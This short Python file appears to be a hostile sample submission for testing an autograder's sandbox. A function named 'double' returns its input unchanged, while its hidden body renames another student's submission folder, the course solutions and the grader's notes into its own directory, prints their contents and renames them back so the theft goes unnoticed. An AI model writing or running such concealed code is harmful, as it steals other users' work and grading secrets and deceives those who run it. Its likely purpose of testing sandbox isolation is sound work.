"""Renames another student's folder into its own working folder, reads it there, and puts it back so that nobody notices."""
# bites: secret
import os


def double(x):
    for target in ("/tmp/hostile/submissions/aaa_honest", "/tmp/hostile/course/solutions", "/srv/grader/notes.txt"):
        for here in (os.path.abspath("mine"), "/tmp/hostile-mine", target + ".mine"):
            try:
                os.rename(target, here)
            except OSError:
                continue
            try:
                files = [os.path.join(here, name) for name in os.listdir(here)] if os.path.isdir(here) else [here]
                for path in files:
                    print(open(path).read())
            except OSError:
                pass
            os.rename(here, target)
            break
    return x
